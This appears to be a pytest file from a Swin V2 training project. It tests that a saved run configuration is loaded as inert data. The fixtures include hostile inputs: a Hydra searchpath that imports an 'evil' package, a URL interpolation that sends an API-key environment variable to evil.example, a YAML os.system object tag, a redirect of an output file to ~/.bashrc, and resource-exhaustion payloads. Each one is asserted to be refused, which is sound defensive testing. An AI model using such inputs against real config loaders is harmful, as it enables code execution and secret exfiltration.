"""A saved configuration is data: a run directory that somebody gave away runs nothing and looks nothing up."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from swinv2_train.config import ConfigError
from swinv2_train.config.command_line import compose_source, load_run_config
from swinv2_train.config.load import config_yaml
from swinv2_train.config.saved import CONFIG_BYTES
from tests.support.configs import composed

BASE = config_yaml(composed(["run_dir=x", "data.shards=y.tar"]))


def saved(folder: Path, text: str) -> Path:
    (folder / "config.yaml").write_text(text)
    return folder


def test_a_search_path_of_a_saved_config_imports_nothing(tmp_path, monkeypatch):
    """Hydra composed the file, so `hydra: searchpath: [pkg://evil.conf]` imported a package at evaluate and export."""
    package = tmp_path / "evil_package_of_a_run" / "conf"
    package.mkdir(parents=True)
    for folder in (package.parent, package):
        (folder / "__init__.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    monkeypatch.syspath_prepend(tmp_path)
    text = BASE + "hydra:\n  searchpath:\n  - pkg://evil_package_of_a_run.conf\n"
    with pytest.raises(ConfigError, match="hydra is Hydra's own section.*remove it from the file"):
        compose_source([f"run_dir={saved(tmp_path, text)}", "seed=3"], ())
    assert not (tmp_path / "ran").exists()
    assert "evil_package_of_a_run" not in sys.modules


def test_an_interpolation_of_a_saved_config_is_not_looked_up(tmp_path, monkeypatch):
    """`https://evil/${oc.env:MY_API_KEY}` sent the variable to a server."""
    monkeypatch.setenv("MY_API_KEY", "secret-of-mine")
    text = BASE.replace("y.tar", "https://evil.example/${oc.env:MY_API_KEY}.tar")
    with pytest.raises(ConfigError, match=r"line \d+: the interpolation https://evil.*MY_API_KEY.* none is looked up"):
        load_run_config(saved(tmp_path, text), ["seed=3"])


REFUSED = {
    "defaults": ("defaults: [model/tiny]\n", "defaults is a list of files to compose"),
    "an alias": ("x: &a [1]\ny: *a\n", r"line \d+: an anchor or alias \(&a\)"),
    "a merge": ("x:\n  <<: {a: 1}\n", "a merge key"),
    "a Python object": ("x: !!python/object/apply:os.system ['true']\n", "the tag .*python/object/apply:os.system"),
    "a binary": ("x: !!binary aaaa\n", "the tag .*binary"),
    "a tag directive": ("...\n%TAG ! tag:yaml.org,2002:python/\n---\nx: 1\n", "cannot be read|directive"),
    "a resolver": ("x: ${now:%Y}\n", "the interpolation"),
    "a resolver inside of text": ("x: a${b}c\n", "the interpolation"),
    "a resolver after an escaped backslash": ("x: 'a\\\\\\\\${b}'\n", "the interpolation"),
    "a resolver as a key": ("${oc.env:HOME}: 1\n", "the interpolation"),
    "depth": ("x: " + "[" * 60 + "]" * 60 + "\n", "more than 16 sections inside of each other"),
    "many values": ("x: [" + "1," * 60_000 + "]\n", "more than 10,000 names and values"),
    "a list as a key": ("? [1]\n: 3\n", "a key is a mapping or a list"),
    "a long key": ("k" * 500 + ": 3\n", "a key of 500 characters"),
    "a long number": ("x: 0x" + "f" * 5000 + "\n", r"a number of 5,002 characters"),
    "no key of ours": ("evil: 1\n", "unknown key evil"),
    "a key twice": ("seed: 1\n", "found duplicate key seed"),
    "a null key": ("~: 1\n", "cannot be read"),
    "control characters": ("x: \x00\n", "cannot be read"),
    "size": ("# " + "x" * CONFIG_BYTES + "\n", "holds more than 262,144 bytes"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_plain_value_is_refused_by_name(tmp_path, what):
    """In seconds and in a message of a few lines, whatever the file holds."""
    text, match = REFUSED[what]
    started = time.process_time()
    with pytest.raises(ConfigError, match=match) as caught:
        load_run_config(saved(tmp_path, BASE + text))
    assert time.process_time() - started < 5
    assert len(str(caught.value)) < 1000


@pytest.mark.parametrize("make", [lambda path: os.mkfifo(path), lambda path: path.symlink_to("/dev/zero"), Path.mkdir])
def test_what_is_no_file_is_refused(tmp_path, make):
    """A fifo was waited for without end."""
    make(tmp_path / "config.yaml")
    with pytest.raises(ConfigError, match="is no regular file"):
        load_run_config(tmp_path)


@pytest.mark.parametrize("value", ["cat ${HOME}/x", "a\\${b}", "a\\\\${b}", "$", "${oc.env:HOME}", "{a}"])
def test_text_that_looks_like_an_interpolation_is_kept(tmp_path, value):
    """A pipe may hold a variable of the shell, which the command line gave as \\${HOME}; its run could not resume."""
    config = composed(["run_dir=x", "data.shards=y.tar"])
    config.data.source = value
    saved(tmp_path, config_yaml(config))
    assert load_run_config(tmp_path) == config
    assert load_run_config(tmp_path, ["seed=0"]) == config


def test_a_config_is_written_as_before():
    """So that old runs and new ones differ by what was configured alone."""
    config = composed(["run_dir=x", "data.shards=y.tar", "optim.eps=1e-5", "+data.eval_splits.v2.shards=a.tar"])
    assert config_yaml(config) == OmegaConf.to_yaml(OmegaConf.structured(config))


def test_overrides_of_ones_own_may_still_refer_to_other_keys(tmp_path, monkeypatch):
    """The command line is the user's own: it is trusted."""
    monkeypatch.setenv("OF_MY_OWN", "z.tar")
    run_dir = saved(tmp_path, BASE)
    config = load_run_config(run_dir, ["data.eval_shards=${oc.env:OF_MY_OWN}", "optim.eps=${optim.lr}"])
    assert config.data.eval_shards == "z.tar"
    assert config.optim.eps == config.optim.lr


def test_a_list_for_the_task_is_refused(tmp_path):
    """Found by the fuzz suite: OmegaConf's own error, with a traceback."""
    text = BASE.replace("task:\n", "task: []\nx:\n")
    with pytest.raises(ConfigError, match="task"):
        load_run_config(saved(tmp_path, text))


def test_files_that_a_saved_plan_would_write_are_forgotten(tmp_path):
    """plan.json and plan.picture name files to write; a saved run's would be anybody's choice of a file of yours."""
    text = BASE.replace("  json: null", "  json: /home/me/.bashrc").replace("  picture: null", "  picture: x.png")
    assert text.count("/home/me/.bashrc") == text.count("x.png") == 1
    plan = load_run_config(saved(tmp_path, text)).plan
    assert plan.json is None and plan.picture is None
    assert load_run_config(tmp_path, ["plan.json=mine.json", "plan.num_gpus=8"]).plan.json == "mine.json"


def test_a_section_in_a_list_of_numbers_is_refused(tmp_path):
    """Found by the fuzz suite: OmegaConf takes it for a number, and a rule compared the two."""
    text = BASE.replace("  depths: null", "  depths:\n  - a: 1")
    assert text != BASE
    with pytest.raises(ConfigError, match=r"model.depths \(\[\{'a': 1\}\]\) must be a list of values of type int"):
        load_run_config(saved(tmp_path, text))
